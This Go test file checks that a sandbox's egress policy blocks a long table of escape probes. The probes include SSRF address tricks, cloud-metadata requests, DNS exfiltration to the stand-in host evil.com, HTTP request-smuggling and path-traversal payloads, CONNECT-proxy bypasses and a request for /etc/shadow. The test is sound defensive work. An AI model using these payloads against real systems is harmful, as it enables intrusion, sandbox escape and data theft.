//go:build linux && (amd64 || arm64)

package sandbox

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"text/tabwriter"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/sys/unix"

	"github.com/twinward-dev/twinward/audit/audittest"
)

// An egressProbe is one way to reach what policy does not allow, by the network
// that a session has. It is open when a byte of it arrives at a server of the
// host that it may not reach, or when somebody answers with a success.
type egressProbe struct {
	Name string
	Verb string // of egressVerbs
	Args string // PORT is the port of the host's own server
	Stop string // what should stop it
}

// The world of these probes: tools.local is served, web.example.com may be read
// below /public over plain HTTP, and its address is the host's own server, which
// counts whatever else arrives; moves.example.com is a name whose address
// becomes a private one; everything else is nobody's business.
var egressProbes = []egressProbe{
	// Addresses instead of names.
	{"a public address", "get", "http://93.184.216.34:PORT/", "raw-address"},
	{"a public IPv6 address", "get", "http://[2606:4700::1111]:PORT/", "raw-address"},
	{"the host's loopback", "get", "http://127.0.0.1:PORT/", "net-namespace"},
	{"the host's loopback by IPv6", "get", "http://[::1]:PORT/", "net-namespace"},
	{"the unspecified address", "get", "http://0.0.0.0:PORT/", "net-namespace"},
	{"a mapped address", "get", "http://[::ffff:127.0.0.1]:PORT/", "net-namespace"},
	{"a translated address (NAT64)", "get", "http://[64:ff9b::7f00:1]:PORT/", "raw-address"},
	{"a 6to4 address", "get", "http://[2002:7f00:1::]:PORT/", "raw-address"},
	{"a Teredo address", "get", "http://[2001:0:7f00:1::]:PORT/", "raw-address"},
	{"the cloud's metadata service", "get", "http://169.254.169.254/latest/meta-data/", "raw-address"},
	{"the cloud's metadata service by IPv6", "get", "http://[fd00:ec2::254]/", "raw-address"},
	{"a link-local address", "get", "http://[fe80::1]:PORT/", "raw-address"},
	{"a carrier's address", "get", "http://100.64.0.1:PORT/", "raw-address"},
	{"a broadcast", "udp", "255.255.255.255:53535", "no listener"},
	{"a multicast", "udp", "224.0.0.251:5353", "no listener"},
	{"a decimal address", "get", "http://2130706433:PORT/", "unlisted-host"},
	{"an octal address", "get", "http://0177.0.0.1:PORT/", "unlisted-host"},
	{"a hexadecimal address", "get", "http://0x7f.1:PORT/", "unlisted-host"},
	{"a short address", "get", "http://127.1:PORT/", "unlisted-host"},
	{"a synthetic address that nobody asked for", "get", "http://198.18.200.200/", "raw-address"},
	{"the name of the host", "get", "http://localhost:PORT/", "net-namespace"},
	{"a name beneath localhost", "get", "http://x.localhost:PORT/", "unlisted-host"},
	{"the metadata service by name", "get", "http://metadata.google.internal/", "unlisted-host"},
	{"a name that carries its address", "get", "http://127.0.0.1.nip.io:PORT/", "unlisted-host"},
	// Names that look like an allowed one.
	{"another host", "get", "https://evil.com/", "unlisted-host"},
	{"a name beneath an allowed one", "get", "http://x.web.example.com:PORT/", "unlisted-host"},
	{"a name above an allowed one", "get", "http://example.com:PORT/", "unlisted-host"},
	{"an allowed name as the beginning", "get", "http://web.example.com.evil.com:PORT/", "unlisted-host"},
	{"a letter that looks alike", "get", "http://wеb.example.com:PORT/", "unlisted-host"},
	{"a full-width dot", "lookup", "web。example。com", "unlisted-host"},
	{"a NUL in the name", "lookup", "web.example.com\x00.evil.com", "unlisted-host"},
	{"a name too long", "lookup", strings.Repeat("a.", 130) + "com", "unlisted-host"},
	{"another port of an allowed name", "tcp", "web.example.com:22", "no listener"},
	// Names as a way out.
	{"data in a name", "lookup", "c2VjcmV0.evil.com", "unlisted-host"},
	{"data in a name, at another server", "dns", "8.8.8.8:53 c2VjcmV0.evil.com. TXT", "unlisted-host"},
	{"data in a name, over TCP", "dnstcp", "1.1.1.1:53 c2VjcmV0.evil.com. A", "unlisted-host"},
	{"data beneath an allowed name", "dns", "8.8.8.8:53 c2VjcmV0.web.example.com. A", "unlisted-host"},
	{"DNS over TLS", "tls", "1.1.1.1:853 one.one.one.one", "no listener"},
	{"DNS over HTTPS", "get", "https://1.1.1.1/dns-query?name=evil.com", "raw-address"},
	// Other transports.
	{"QUIC", "udp", "93.184.216.34:443", "no listener"},
	{"QUIC to an allowed name", "udp", "web.example.com:PORT", "no listener"},
	{"the time", "udp", "129.6.15.28:123", "no listener"},
	{"MPTCP", "mptcp", "93.184.216.34:PORT", "seccomp"},
	{"data in the first packet", "fastopen", "93.184.216.34:PORT", "seccomp"},
	{"data in the first packet to the host", "fastopen", "127.0.0.1:PORT", "seccomp"},
	// What is said on an allowed connection.
	{"another name in TLS", "tls", "tools.local:443 evil.com", "sni-mismatch"},
	{"no name in TLS", "tls", "tools.local:443", "sni-mismatch"},
	{"an address as the name in TLS", "tls", "tools.local:443 93.184.216.34", "sni-mismatch"},
	{"no TLS where TLS is expected", "tcp", "tools.local:443", "bad-client-hello"},
	{"another Host", "h1", "tools.local:80 evil.com", "host-mismatch"},
	{"a Host with another port", "h1", "tools.local:80 tools.local:8080", "host-mismatch"},
	{"a Host with a NUL", "raw", "tools.local:80 " + q("GET / HTTP/1.1\r\nHost: tools.local\x00.evil.com\r\n\r\n"), "parser"},
	{"two Hosts", "raw", "tools.local:80 " + q("GET / HTTP/1.1\r\nHost: tools.local\r\nHost: evil.com\r\n\r\n"), "parser"},
	{"no Host", "raw", "tools.local:80 " + q("GET / HTTP/1.1\r\n\r\n"), "parser"},
	{"another host in the target", "raw", "tools.local:80 " + q("GET http://evil.com/ HTTP/1.1\r\nHost: tools.local\r\n\r\n"), "host-mismatch"},
	{"a path that is not public", "get", "http://web.example.com:PORT/secret", "http-path"},
	{"a path that climbs", "raw", "web.example.com:PORT " + getPath("/public/../secret"), "http-path"},
	{"a path that climbs, encoded", "raw", "web.example.com:PORT " + getPath("/public/%2e%2e/secret"), "http-path"},
	{"a path that climbs, encoded twice", "raw", "web.example.com:PORT " + getPath("/public/%252e%252e/secret"), "ambiguous-path"},
	{"a path that climbs with a slash encoded", "raw", "web.example.com:PORT " + getPath("/public/..%2fsecret"), "ambiguous-path"},
	{"a path that climbs with a parameter", "raw", "web.example.com:PORT " + getPath("/public/..;/secret"), "ambiguous-path"},
	{"a path that climbs with backslashes", "raw", "web.example.com:PORT " + getPath(`/public/..\secret`), "ambiguous-path"},
	{"a path with a NUL", "raw", "web.example.com:PORT " + getPath("/secret%00/public/"), "ambiguous-path"},
	{"an overlong dot", "raw", "web.example.com:PORT " + getPath("/public/%c0%ae%c0%ae/secret"), "ambiguous-path"},
	{"another method", "raw", "web.example.com:PORT " + q("DELETE /public/x HTTP/1.1\r\nHost: web.example.com:PORT\r\nConnection: close\r\n\r\n"), "http-method"},
	{"a method in another case", "raw", "web.example.com:PORT " + q("get /public/x HTTP/1.1\r\nHost: web.example.com:PORT\r\nConnection: close\r\n\r\n"), "http-method"},
	{"a method in a field", "raw", "web.example.com:PORT " + q("GET /public/x HTTP/1.1\r\nHost: web.example.com:PORT\r\nX-HTTP-Method-Override: DELETE\r\nConnection: close\r\n\r\n"), "method-override"},
	{"TRACE", "raw", "web.example.com:PORT " + q("TRACE /public/x HTTP/1.1\r\nHost: web.example.com:PORT\r\n\r\n"), "http-method"},
	{"CONNECT to a server that is no proxy", "raw", "web.example.com:PORT " + q("CONNECT evil.com:443 HTTP/1.1\r\nHost: evil.com:443\r\n\r\n"), "host-mismatch"},
	{"two lengths", "raw", "web.example.com:PORT " + q("GET /public/x HTTP/1.1\r\nHost: web.example.com:PORT\r\nContent-Length: 0\r\nContent-Length: 44\r\n\r\n"+smuggled), "parser"},
	{"a length and chunks", "raw", "web.example.com:PORT " + q("GET /public/x HTTP/1.1\r\nHost: web.example.com:PORT\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"+smuggled), "parser"},
	{"chunks, spelled oddly", "raw", "web.example.com:PORT " + q("GET /public/x HTTP/1.1\r\nHost: web.example.com:PORT\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n"+smuggled), "parser"},
	{"chunks with a space before the colon", "raw", "web.example.com:PORT " + q("GET /public/x HTTP/1.1\r\nHost: web.example.com:PORT\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n"+smuggled), "parser"},
	{"a second request behind the first", "raw", "web.example.com:PORT " + q("GET /public/x HTTP/1.1\r\nHost: web.example.com:PORT\r\n\r\n"+smuggled), "http-path"},
	{"a second request for another host", "raw", "web.example.com:PORT " + q("GET /public/x HTTP/1.1\r\nHost: web.example.com:PORT\r\n\r\nGET /public/secret HTTP/1.1\r\nHost: evil.com\r\n\r\n"), "host-mismatch"},
	{"a field that is folded", "raw", "web.example.com:PORT " + q("GET /public/x HTTP/1.1\r\nHost: web.example.com:PORT\r\nX: y\r\n Transfer-Encoding: chunked\r\n\r\n"+smuggled), "parser"},
	{"a bare line feed in a field", "raw", "web.example.com:PORT " + q("GET /public/x HTTP/1.1\r\nHost: web.example.com:PORT\r\nX: y\nGET /secret HTTP/1.1\n\r\n\r\n"), "parser"},
	{"HTTP/2 by upgrade", "raw", "web.example.com:PORT " + q("GET /public/x HTTP/1.1\r\nHost: web.example.com:PORT\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n"+smuggled), "http-path"},
	{"HTTP/0.9", "raw", "web.example.com:PORT " + q("GET /secret\r\n"), "parser"},
	{"HTTP/1.0 without a host", "raw", "web.example.com:PORT " + q("GET /public/x HTTP/1.0\r\n\r\n"), "host-mismatch"},
	// Where an allowed host sends the program.
	{"a redirect to the host's loopback", "get", "http://web.example.com:PORT/public/redirect?to=http://127.0.0.1:PORT/secret", "net-namespace"},
	{"a redirect to the metadata service", "get", "http://web.example.com:PORT/public/redirect?to=http://169.254.169.254/secret", "raw-address"},
	{"a redirect to another host", "get", "http://web.example.com:PORT/public/redirect?to=http://evil.com/secret", "unlisted-host"},
	{"a redirect to another path", "get", "http://web.example.com:PORT/public/redirect?to=/secret", "http-path"},
	{"a name that moves to a private address", "get", "http://moves.example.com:PORT/", "private-address"},
	{"a name of the cloud's metadata address", "get", "http://cloud.example.com:PORT/", "private-address"},
	{"a name of a translated private address", "get", "http://nat.example.com:PORT/", "private-address"},
	// The proxy at the same door.
	{"proxy: the host's loopback", "raw", proxyAt + q("CONNECT 127.0.0.1:PORT HTTP/1.1\r\nHost: 127.0.0.1:PORT\r\n\r\n"+smuggled), "raw-address"},
	{"proxy: the host's loopback by IPv6", "raw", proxyAt + q("CONNECT [::1]:PORT HTTP/1.1\r\nHost: [::1]:PORT\r\n\r\n"+smuggled), "raw-address"},
	{"proxy: localhost", "raw", proxyAt + q("CONNECT localhost:PORT HTTP/1.1\r\nHost: localhost:PORT\r\n\r\n"+smuggled), "unlisted-host"},
	{"proxy: a decimal address", "raw", proxyAt + q("CONNECT 2130706433:PORT HTTP/1.1\r\nHost: x\r\n\r\n"+smuggled), "unlisted-host"},
	{"proxy: the metadata service", "raw", proxyAt + q("CONNECT 169.254.169.254:80 HTTP/1.1\r\nHost: x\r\n\r\n"+smuggled), "raw-address"},
	{"proxy: another host", "raw", proxyAt + q("CONNECT evil.com:443 HTTP/1.1\r\nHost: evil.com:443\r\n\r\n"+smuggled), "unlisted-host"},
	{"proxy: an allowed Host, another target", "raw", proxyAt + q("CONNECT evil.com:443 HTTP/1.1\r\nHost: tools.local:443\r\n\r\n"+smuggled), "unlisted-host"},
	{"proxy: an allowed name as the user", "raw", proxyAt + q("CONNECT tools.local:443@evil.com:443 HTTP/1.1\r\nHost: x\r\n\r\n"+smuggled), "parser"},
	{"proxy: a NUL in the name", "raw", proxyAt + q("CONNECT evil.com\x00.tools.local:443 HTTP/1.1\r\nHost: x\r\n\r\n"+smuggled), "parser"},
	{"proxy: an encoded NUL", "raw", proxyAt + q("CONNECT evil.com%00.tools.local:443 HTTP/1.1\r\nHost: x\r\n\r\n"+smuggled), "parser"},
	{"proxy: another port of an allowed name", "raw", proxyAt + q("CONNECT tools.local:22 HTTP/1.1\r\nHost: x\r\n\r\n"+smuggled), "unlisted-port"},
	{"proxy: no port", "raw", proxyAt + q("CONNECT tools.local HTTP/1.1\r\nHost: x\r\n\r\n"+smuggled), "parser"},
	{"proxy: a port that wraps", "raw", proxyAt + q("CONNECT tools.local:65979 HTTP/1.1\r\nHost: x\r\n\r\n"+smuggled), "parser"},
	{"proxy: itself", "raw", proxyAt + q("CONNECT 127.0.0.1:3128 HTTP/1.1\r\nHost: x\r\n\r\nCONNECT 127.0.0.1:PORT HTTP/1.1\r\nHost: x\r\n\r\n"+smuggled), "raw-address"},
	{"proxy: CONNECT with a body", "raw", proxyAt + q("CONNECT web.example.com:PORT HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\n\r\nhello"+smuggled), "parser"},
	{"proxy: another request in the tunnel", "raw", proxyAt + q("CONNECT web.example.com:PORT HTTP/1.1\r\nHost: x\r\n\r\nGET /secret HTTP/1.1\r\nHost: web.example.com:PORT\r\nConnection: close\r\n\r\n"), "http-path"},
	{"proxy: another host in the tunnel", "raw", proxyAt + q("CONNECT web.example.com:PORT HTTP/1.1\r\nHost: x\r\n\r\nGET /public/secret HTTP/1.1\r\nHost: evil.com\r\nConnection: close\r\n\r\n"), "host-mismatch"},
	{"proxy: an address in absolute form", "raw", proxyAt + q("GET http://127.0.0.1:PORT/secret HTTP/1.1\r\nHost: 127.0.0.1:PORT\r\nConnection: close\r\n\r\n"), "raw-address"},
	{"proxy: another path in absolute form", "raw", proxyAt + q("GET http://web.example.com:PORT/secret HTTP/1.1\r\nHost: web.example.com:PORT\r\nConnection: close\r\n\r\n"), "http-path"},
	{"proxy: a user in absolute form", "raw", proxyAt + q("GET http://web.example.com:PORT@127.0.0.1:PORT/secret HTTP/1.1\r\nHost: web.example.com\r\nConnection: close\r\n\r\n"), "parser"},
	{"proxy: another scheme", "raw", proxyAt + q("GET https://web.example.com:PORT/public/x HTTP/1.1\r\nHost: web.example.com\r\nConnection: close\r\n\r\n"), "parser"},
	{"proxy: a file", "raw", proxyAt + q("GET file:///etc/shadow HTTP/1.1\r\nHost: web.example.com\r\nConnection: close\r\n\r\n"), "parser"},
	{"proxy: origin form", "raw", proxyAt + q("GET /secret HTTP/1.1\r\nHost: web.example.com:PORT\r\nConnection: close\r\n\r\n"), "parser"},
	{"proxy: smuggled behind an allowed request", "raw", proxyAt + q("POST http://web.example.com:PORT/public/x HTTP/1.1\r\nHost: web.example.com\r\nContent-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n"+smuggled), "parser"},
}

const (
	proxyAt  = "127.0.0.1:3128 "
	smuggled = "GET /secret HTTP/1.1\r\nHost: web.example.com:PORT\r\nConnection: close\r\n\r\n"
)

func q(s string) string { return strconv.Quote(s) }

func getPath(path string) string {
	return q("GET " + path + " HTTP/1.1\r\nHost: web.example.com:PORT\r\nConnection: close\r\n\r\n")
}

func init() {
	roles["ways"] = func() {
		var ways []egressProbe
		if err := json.NewDecoder(os.Stdin).Decode(&ways); err != nil {
			panic(err)
		}
		hows := make([]string, len(ways))
		var all sync.WaitGroup
		slots := make(chan struct{}, 8)
		for i, w := range ways {
			all.Go(func() {
				slots <- struct{}{}
				defer func() { <-slots }()
				hows[i] = egressVerbs[w.Verb](w.Args)
			})
		}
		all.Wait()
		json.NewEncoder(os.Stdout).Encode(hows)
	}
}

var egressVerbs = map[string]func(string) string{
	"get": tryGet, "h1": tryRequest, "tls": tryTLS, "tcp": tryTCP, "udp": tryUDP, "dns": tryDNS, "lookup": tryLookup,
	"dnstcp": func(args string) string { return tryDNS("tcp " + args) },
	"raw":    tryRaw,
	"mptcp":  func(addr string) string { return trySocket(addr, 262, 0) },
	"fastopen": func(addr string) string {
		return trySocket(addr, 0, unix.MSG_FASTOPEN)
	},
}

// tryRaw says what is quoted to an address, and returns what came back.
func tryRaw(args string) string {
	addr, text, _ := strings.Cut(args, " ")
	said, err := strconv.Unquote(text)
	if err != nil {
		return err.Error()
	}
	c, err := net.DialTimeout("tcp", addr, patience)
	if err != nil {
		return ending(err)
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(2 * time.Second)) // a server that keeps the connection says nothing more
	io.WriteString(c, said)
	b, err := io.ReadAll(io.LimitReader(c, 4096))
	if len(b) == 0 {
		return ending(err)
	}
	return string(b)
}

// trySocket sends with the first packet, or by another protocol.
func trySocket(addr string, proto, flags int) string {
	a := netip.MustParseAddrPort(addr)
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, proto)
	if err != nil {
		return err.Error()
	}
	defer unix.Close(fd)
	tv := unix.NsecToTimeval(int64(2 * time.Second))
	_ = unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &tv)
	to := &unix.SockaddrInet4{Port: int(a.Port()), Addr: a.Addr().As4()}
	if flags == 0 {
		err = unix.Connect(fd, to)
	}
	if err == nil {
		err = unix.Sendto(fd, []byte("GET /secret HTTP/1.0\r\n\r\n"), flags, to)
	}
	if err != nil {
		return err.Error()
	}
	b := make([]byte, 100)
	n, err := unix.Read(fd, b)
	if err != nil {
		return err.Error()
	}
	return string(b[:n])
}

// moving answers a public address first, and the host's own from then on.
type moving struct {
	host  netip.Addr
	asked atomic.Int32
}

func (m *moving) LookupNetIP(_ context.Context, _, name string) ([]netip.Addr, error) {
	switch name {
	case "web.example.com.":
		return []netip.Addr{m.host}, nil
	case "moves.example.com.":
		return []netip.Addr{m.host}, nil
	case "cloud.example.com.":
		return []netip.Addr{netip.MustParseAddr("169.254.169.254")}, nil
	case "nat.example.com.":
		return []netip.Addr{netip.MustParseAddr("64:ff9b::7f00:1")}, nil
	}
	m.asked.Add(1)
	return nil, &net.DNSError{Err: "no such host", Name: name, IsNotFound: true}
}

// TestEgressEscapes tries every way out that the network of a session has. None
// may lead to the host's server but the one that policy allows. Run it with -v
// for the table.
func TestEgressEscapes(t *testing.T) {
	needSandbox(t)
	var mu sync.Mutex
	var reached []string
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/public/redirect" && r.Host != "" {
			w.Header().Set("Location", r.URL.Query().Get("to"))
			w.WriteHeader(http.StatusFound)
			return
		}
		if r.Method == http.MethodGet && r.URL.Path == "/public/x" && strings.HasPrefix(r.Host, "web.example.com") {
			io.WriteString(w, "public")
			return
		}
		mu.Lock()
		reached = append(reached, fmt.Sprintf("%s %s %s", r.Method, r.Host, r.RequestURI))
		mu.Unlock()
		io.WriteString(w, "breach")
	}))
	defer srv.Close()
	at := netip.MustParseAddrPort(srv.Listener.Addr().String())
	port := strconv.Itoa(int(at.Port()))
	for _, launcher := range launchers {
		t.Run("launcher="+string(launcher), func(t *testing.T) {
			resolver := &moving{host: at.Addr()}
			opts := launchedBy(launcher)
			opts.Self, opts.Resolver = true, resolver
			log := audittest.NewLog(t)
			s := box(t, log, rules(
				Rule{Host: "tools.local", Ports: []uint16{443, 80}, Served: true},
				Rule{Host: "web.example.com", Ports: []uint16{at.Port()}, Private: true, Protocol: ProtocolHTTP, Rules: []HTTPRule{{Methods: []string{"GET"}, Path: "/public/**"}}},
				Rule{Host: "moves.example.com", Ports: []uint16{at.Port()}},
				Rule{Host: "cloud.example.com", Ports: []uint16{at.Port()}, Private: true},
				Rule{Host: "nat.example.com", Ports: []uint16{at.Port()}},
			), opts)
			require.NoError(t, s.Handle("tools.local", http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { io.WriteString(w, "served") })))
			// What is allowed works: otherwise nothing below proves anything.
			assert.Equal(t, []string{"200 public", "200 served"}, try(t, s, "get http://web.example.com:"+port+"/public/x", "get https://tools.local/"))

			probes := make([]egressProbe, len(egressProbes))
			for i, p := range egressProbes {
				p.Args = strings.ReplaceAll(p.Args, "PORT", port)
				probes[i] = p
			}
			in, err := json.Marshal(probes)
			require.NoError(t, err)
			cmd := s.Command(t.Context(), Self)
			cmd.Env = roleEnv("ways")
			cmd.Stdin = bytes.NewReader(in)
			var errs bytes.Buffer
			cmd.Stderr = &errs
			out, err := cmd.Output()
			require.NoError(t, err, errs.String())
			var hows []string
			require.NoError(t, json.Unmarshal(out, &hows))
			require.Len(t, hows, len(probes))
			var table strings.Builder
			w := tabwriter.NewWriter(&table, 0, 0, 2, ' ', 0)
			for i, p := range probes {
				how := hows[i]
				open := strings.Contains(how, "breach") || strings.HasPrefix(how, "200") || how == "ok" || how == "answer" || how == "synthetic" || strings.HasPrefix(how, "Success")
				state := "blocked"
				if open {
					state = "OPEN"
					t.Errorf("%s: %s; %s should have stopped it", p.Name, how, p.Stop)
				}
				fmt.Fprintf(w, "%s\t%s\t%s\t%s\n", p.Name, state, p.Stop, q(how[:min(len(how), 60)]))
			}
			w.Flush()
			require.NoError(t, s.Close())
			_, denied := connects(log.Records())
			for _, p := range probes {
				switch p.Stop {
				case "net-namespace", "seccomp", "no listener", "parser": // nobody is told, or not of a cause
				default:
					assert.True(t, slices.ContainsFunc(denied, func(d string) bool { return strings.HasPrefix(d, p.Stop+" ") }), "no %s is on record", p.Stop)
				}
			}
			assert.Zero(t, resolver.asked.Load(), "a name that policy does not allow was looked up on the host")
			t.Logf("%d probes, uid %d\n%s", len(probes), os.Getuid(), table.String())
		})
	}
	assert.Empty(t, reached, "these arrived at the host's own server")
}
